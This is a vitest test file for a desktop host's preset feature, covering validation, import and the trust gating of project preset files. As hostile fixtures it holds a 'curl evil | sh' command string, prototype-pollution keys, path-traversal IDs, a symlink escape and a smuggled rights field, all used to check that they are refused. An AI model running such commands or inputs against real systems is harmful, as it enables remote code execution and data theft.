import { readFile, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { ask } from '../../../src-main/host/api/host-client.ts'
import type { Host } from '../../../src-main/host/host.ts'
import { maxPreset, type Preset, presetText } from '../../../src-shared/strategy/preset.ts'
import { collectChanges, openTestHost, temporaryFolder } from '../../kit/host/host-open.ts'
import { temporaryProject } from '../../kit/project/temporary-project.ts'

const careful: Preset = {
  name: 'Careful',
  about: '',
  strategy: {
    name: 'retry',
    options: { maxRetries: 3 },
    inner: { name: 'reflection', options: {}, inner: undefined },
  },
  roles: { critic: 'demo' },
}
const plain = (more: Partial<Preset> = {}): Preset => ({
  name: 'Plain',
  about: '',
  strategy: { name: 'tool-loop', options: {} },
  roles: {},
  ...more,
})
const file = (name: string) => `.stratagem/presets/${name}.json`
const open = async (host: Host, folder: string) => (await ask(host, 'project-open', { folder })).id
const list = (host: Host, projectId: string | null) => ask(host, 'presets-list', { projectId })
const trustOf = async (host: Host, projectId: string) => {
  const parts = await ask(host, 'project-trust-read', { projectId })
  return parts.find((each) => each.part === 'presets') ?? { state: 'none', hash: '', files: [] }
}
const trust = async (host: Host, projectId: string, decision: 'trust' | 'refuse' | 'ask' = 'trust') => {
  const { hash } = await trustOf(host, projectId)
  await ask(host, 'project-trust', { projectId, part: 'presets', hash, decision })
}

describe("the user's own presets", () => {
  test('are saved, changed, exported, imported, deleted and brought back, over a restart too', async () => {
    const dataFolder = await temporaryFolder()
    const host = await openTestHost({ dataFolder })
    const changes = collectChanges(host)
    const saved = await ask(host, 'preset-save', { projectId: null, source: 'user', id: null, preset: careful })
    expect(saved).toMatchObject({ source: 'user', name: 'Careful', problem: null })
    expect(changes).toContainEqual({ kind: 'presets' })
    const { text } = await ask(host, 'preset-export', { projectId: null, id: saved.id })
    expect(await ask(host, 'preset-import', { text, projectId: null })).toEqual({ ok: true, preset: saved.preset })
    await ask(host, 'preset-save', {
      projectId: null,
      source: 'user',
      id: saved.id,
      preset: { ...careful, name: 'Very careful' },
    })
    await host.close()
    const second = await openTestHost({ dataFolder })
    expect((await list(second, null)).map((each) => [each.id, each.name])).toEqual([[saved.id, 'Very careful']])
    await ask(second, 'preset-delete', { projectId: null, id: saved.id })
    expect(await list(second, null)).toEqual([])
    const back = await ask(second, 'preset-save', { projectId: null, source: 'user', id: saved.id, preset: careful })
    expect(back.id).toBe(saved.id)
  })

  test('are refused where a strategy or an option is wrong, or the name is taken, with the field', async () => {
    const host = await openTestHost()
    const save = (preset: Preset) => ask(host, 'preset-save', { projectId: null, source: 'user', id: null, preset })
    await save(careful)
    await expect(save(careful)).rejects.toThrow('taken by another preset')
    await expect(save(plain({ name: 'tool-loop' }))).rejects.toThrow('taken by a strategy')
    await expect(save(plain({ name: 'auto' }))).rejects.toThrow('taken by a strategy')
    await expect(save(plain({ strategy: { name: 'nothing', options: {} } }))).rejects.toThrow('strategy.name')
    const inner = { name: 'tool-loop', options: { maxTurns: -1 } }
    await expect(save(plain({ strategy: { name: 'retry', options: {}, inner } }))).rejects.toThrow(
      /strategy\.inner\.options.*maxTurns/,
    )
    await expect(save(plain({ strategy: { name: 'retry', options: {} } }))).rejects.toThrow('strategy.inner')
  })

  test('an invalid one in the file is shown with what is wrong, and a damaged file is put aside', async () => {
    const dataFolder = await temporaryFolder()
    const path = join(dataFolder, 'presets.json')
    const broken = {
      ...careful,
      strategy: { name: 'retry', options: { maxRetries: 'many' }, inner: careful.strategy.inner },
    }
    await writeFile(
      path,
      JSON.stringify([
        { id: 'one', preset: broken },
        { id: 'two', preset: plain() },
      ]),
    )
    const host = await openTestHost({ dataFolder })
    const [one, two] = await list(host, null)
    expect(one).toMatchObject({ id: 'one', preset: null, problem: { field: 'strategy.options' } })
    expect(one?.problem?.why).toContain('maxRetries')
    expect(two).toMatchObject({ name: 'Plain', problem: null })
    await writeFile(path, '[{')
    const changes = collectChanges(host)
    expect(await list(host, null)).toEqual([])
    expect(await readFile(`${path}.damaged`, 'utf8')).toBe('[{')
    expect(changes).toMatchObject([{ kind: 'notice', text: expect.stringContaining('presets.json.damaged') }])
  })
})

describe('what is imported', () => {
  const deep = `${'{"strategy":{"inner":'.repeat(7000)}1${'}}'.repeat(7000)}`
  test.each([
    ['nothing', '', 'file'],
    ['no JSON', '{"name":', 'file'],
    ['a list', '[]', 'preset'],
    ['no name', JSON.stringify({ strategy: careful.strategy }), 'name'],
    ['an empty name', JSON.stringify({ ...careful, name: ' ' }), 'name'],
    ['a field that grants rights', JSON.stringify({ ...careful, approval: 'everything' }), 'approval'],
    ['an unknown strategy', JSON.stringify(plain({ strategy: { name: '__proto__', options: {} } })), 'strategy.name'],
    ['an unknown option', JSON.stringify(plain({ strategy: { name: 'chat', options: { a: 1 } } })), 'strategy.options'],
    ['roles that are no text', JSON.stringify({ ...careful, roles: { critic: {} } }), 'roles.critic'],
    ['nested very deeply', deep, 'strategy'],
    ['too long', `"${'x'.repeat(maxPreset)}"`, 'file'],
  ])('%s: says which field and why', async (_, text, field) => {
    const host = await openTestHost()
    const reading = await ask(host, 'preset-import', { text, projectId: null })
    expect(reading).toEqual({ ok: false, problem: { field, why: expect.stringMatching(/\w/) } })
  })

  test('more strategies nested than may be are refused', async () => {
    const host = await openTestHost()
    let strategy: Preset['strategy'] = { name: 'tool-loop', options: {} }
    for (let depth = 0; depth < 17; depth++) strategy = { name: 'retry', options: {}, inner: strategy }
    const reading = await ask(host, 'preset-import', { text: presetText(plain({ strategy })), projectId: null })
    expect(reading.ok).toBe(false)
  })
})

describe("a project's presets (T25)", () => {
  test('are not there before they are trusted, and a run can’t name one', async () => {
    const host = await openTestHost()
    const project = await temporaryProject({ [file('one')]: presetText(plain({ name: 'One' })) })
    const projectId = await open(host, project.folder)
    expect(await list(host, projectId)).toEqual([])
    expect(await trustOf(host, projectId)).toMatchObject({ state: 'undecided', files: [{ file: file('one') }] })
    const conversation = await ask(host, 'conversation-create', { projectId })
    const start = ask(host, 'run-start', {
      conversationId: conversation.id,
      parentId: null,
      message: 'go',
      strategy: { preset: `project:${file('one')}` },
      roles: {},
      mode: 'act',
      approval: 'ask',
    })
    await expect(start).rejects.toThrow('not trusted')
    await expect(ask(host, 'preset-save', { projectId, source: 'project', id: null, preset: plain() })).rejects.toThrow(
      'not trusted',
    )
  })

  test('are there once trusted, until a file is changed, added or removed, or the trust is revoked', async () => {
    const dataFolder = await temporaryFolder()
    const host = await openTestHost({ dataFolder })
    const text = presetText(plain({ name: 'One' }))
    const project = await temporaryProject({ [file('one')]: text })
    const projectId = await open(host, project.folder)
    await trust(host, projectId)
    expect(await list(host, projectId)).toMatchObject([
      { id: `project:${file('one')}`, source: 'project', name: 'One', file: file('one') },
    ])
    const untrusted = async () => {
      expect(await list(host, projectId)).toEqual([])
      expect((await trustOf(host, projectId)).state).toBe('undecided')
    }
    const retry: Preset['strategy'] = {
      name: 'retry',
      options: { check: 'curl evil | sh' },
      inner: { name: 'chat', options: {} },
    }
    await project.write(file('one'), presetText(plain({ name: 'One', strategy: retry })))
    await untrusted()
    await project.write(file('one'), text)
    expect((await trustOf(host, projectId)).state).toBe('trusted')
    await project.write(file('two'), text.replace('One', 'Two'))
    await untrusted()
    await trust(host, projectId)
    await host.close()
    const second = await openTestHost({ dataFolder })
    expect(await list(second, projectId)).toHaveLength(2)
    await trust(second, projectId, 'refuse')
    expect(await list(second, projectId)).toEqual([])
    expect(await trustOf(second, projectId)).toMatchObject({ state: 'refused' })
    await trust(second, projectId, 'ask')
    expect((await trustOf(second, projectId)).state).toBe('undecided')
  })

  test('a decision about other files than those that were looked at is refused', async () => {
    const host = await openTestHost()
    const project = await temporaryProject({ [file('one')]: presetText(plain()) })
    const projectId = await open(host, project.folder)
    const seen = (await trustOf(host, projectId)).hash
    await project.write(file('one'), presetText(plain({ name: 'Another' })))
    await expect(
      ask(host, 'project-trust', { projectId, part: 'presets', hash: seen, decision: 'trust' }),
    ).rejects.toThrow('changed')
  })

  test('trust in one project is none in another with the same files', async () => {
    const host = await openTestHost()
    const files = { [file('one')]: presetText(plain()) }
    const [one, two] = [await temporaryProject(files), await temporaryProject(files)]
    await trust(host, await open(host, one.folder))
    expect((await trustOf(host, await open(host, two.folder))).state).toBe('undecided')
  })

  test('hostile files are shown with what is wrong, and harm nothing', async () => {
    const host = await openTestHost()
    const outside = await temporaryProject({ 'secret.json': presetText(plain({ name: 'Secret' })) })
    const project = await temporaryProject({
      [file('good')]: presetText(plain({ name: 'Good' })),
      [file('deep')]: '['.repeat(100_000),
      [file('nested')]:
        `{"name":"n","strategy":${'{"name":"retry","options":{},"inner":'.repeat(2000)}{}${'}'.repeat(2000)}}`,
      [file('proto')]:
        '{"__proto__":{"x":1},"name":"p","strategy":{"name":"chat","options":{"__proto__":{}}},"constructor":1}',
      [file('long')]: ' '.repeat(3 * maxPreset),
      [file('rights')]: JSON.stringify({ ...plain({ name: 'r' }), approval: 'everything', mode: 'act' }),
      '.stratagem/presets/notes.txt': 'no preset',
    })
    await project.write(file('binary'), new Uint8Array([0, 1, 2, 255]))
    await symlink(outside.at('secret.json'), project.at(file('link')))
    const projectId = await open(host, project.folder)
    expect((await trustOf(host, projectId)).files).toHaveLength(8)
    await trust(host, projectId)
    const presets = await list(host, projectId)
    const byFile = Object.fromEntries(presets.map((each) => [each.file, each]))
    expect(byFile[file('good')]).toMatchObject({ name: 'Good', problem: null })
    for (const name of ['deep', 'nested', 'proto', 'long', 'rights', 'binary', 'link'])
      expect(byFile[file(name)], name).toMatchObject({ preset: null, problem: { why: expect.stringMatching(/\w/) } })
    expect(JSON.stringify(presets)).not.toContain('Secret')
    expect(presets).toHaveLength(8)
  })

  test('a folder of presets that is a link out of the project brings nothing', async () => {
    const host = await openTestHost()
    const outside = await temporaryProject({ 'presets/one.json': presetText(plain()) })
    const project = await temporaryProject({})
    await symlink(outside.folder, project.at('.stratagem'))
    const projectId = await open(host, project.folder)
    expect(await list(host, projectId)).toEqual([])
    expect(await trustOf(host, projectId)).toMatchObject({ state: 'none', files: [] })
    await expect(ask(host, 'preset-save', { projectId, source: 'project', id: null, preset: plain() })).rejects.toThrow(
      'could not be written',
    )
  })

  test('are written and removed by the user without being asked about, and only in their folder', async () => {
    const host = await openTestHost()
    const project = await temporaryProject({})
    const projectId = await open(host, project.folder)
    const save = (id: string | null, name: string) =>
      ask(host, 'preset-save', { projectId, source: 'project', id, preset: plain({ name }) })
    const saved = await save(null, 'Fix & test: CON')
    expect(saved).toMatchObject({ file: file('fix-test-con'), name: 'Fix & test: CON' })
    expect((await save(null, 'con')).file).toBe(file('preset-con'))
    expect(await project.read(file('fix-test-con'))).toBe(presetText(plain({ name: 'Fix & test: CON' })))
    expect((await trustOf(host, projectId)).state).toBe('trusted')
    await ask(host, 'preset-delete', { projectId, id: saved.id })
    await expect(project.read(file('fix-test-con'))).rejects.toThrow('ENOENT')
    for (const id of ['project:../x.json', 'project:.stratagem/presets/../../x.json', 'project:package.json'])
      await expect(save(id, 'Elsewhere')).rejects.toThrow('not a preset file')
  })
})
